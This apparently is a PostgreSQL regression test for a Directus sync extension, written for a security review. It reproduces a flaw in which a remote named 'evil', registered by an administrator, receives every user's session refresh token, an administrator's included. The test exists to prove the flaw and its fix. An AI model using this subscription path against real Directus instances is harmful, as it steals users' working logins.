-- Review 7: subscribe refuses the credentials of directus_users (password,
-- token, tfa_secret, auth_data: "shipped, a remote would hold working
-- logins of this instance"), but not Directus's sessions: directus_sessions
-- is keyed by the session's refresh token itself (Directus stores it in
-- clear and looks sessions up by it), so any subscription of it ships every
-- user's working login, administrators' too, as the item key. Through the
-- app config, a Directus administrator (who cannot read directus_sessions
-- through Directus's API) gets them sent to a URL of their choice.
-- Correct: subscribe (in SQL and through sync_subscriptions) refuses
-- directus_sessions (42501, as for directus_users's credentials), nothing
-- subscribed, nothing queued. The expected output shows the CURRENT wrong
-- result.
\set SHOW_CONTEXT never
\set VERBOSITY terse
CREATE ROLE regress_r7s_directus;
CREATE DATABASE regress_r7_sessions OWNER regress_r7s_directus;
\c regress_r7_sessions
CREATE EXTENSION directus_sync;
SET ROLE regress_r7s_directus;
\set ECHO none
\ir t/directus12_system.sql
\set ECHO all
-- Directus 12's directus_sessions (not in the fixture).
CREATE TABLE directus_sessions (token varchar(64) PRIMARY KEY, "user" uuid, expires timestamptz NOT NULL,
                                ip varchar(255), user_agent text, share uuid, origin varchar(255),
                                next_token varchar(64));
RESET ROLE;
-- The SQL function: correct: refused (42501). Now: accepted.
SELECT directus_sync.add_remote('r', 'http://127.0.0.1:9', 'secret-token-r');
SELECT directus_sync.pause('r');
SELECT directus_sync.subscribe('r', 'directus_sessions', ARRAY['expires']);
SELECT remote_id, collection, fields FROM directus_sync.subscription;
-- Through the app config, as Directus's role: correct: refused (42501). Now: accepted.
SET client_min_messages = warning;
SELECT directus_sync.enable_app_config();
RESET client_min_messages;
SET ROLE regress_r7s_directus;
INSERT INTO sync_remotes (name, url, token, paused) VALUES ('evil', 'http://127.0.0.1:10', 'secret-token-evil', true);
INSERT INTO sync_subscriptions (remote, collection, fields)
SELECT id, 'directus_sessions', '["expires"]' FROM sync_remotes WHERE name = 'evil' RETURNING collection;
-- An administrator logs in.
INSERT INTO directus_sessions (token, "user", expires)
VALUES ('refresh-token-of-the-admin', '0b000000-0000-4000-8000-000000000001', '2030-01-01 00:00:00+00');
RESET ROLE;
-- Correct: nothing queued. Now: the session's token, for both remotes.
SELECT r.name, o.collection, o.item_key, o.payload
  FROM directus_sync.outbox o JOIN directus_sync.remote r ON r.id = o.remote_id ORDER BY r.name;

SET client_min_messages = warning;
SELECT FROM directus_sync.remove_remote('evil');
SELECT FROM directus_sync.remove_remote('r');
SELECT directus_sync.disable_app_config();
RESET client_min_messages;
\c contrib_regression
DROP DATABASE regress_r7_sessions;
DROP ROLE regress_r7s_directus;
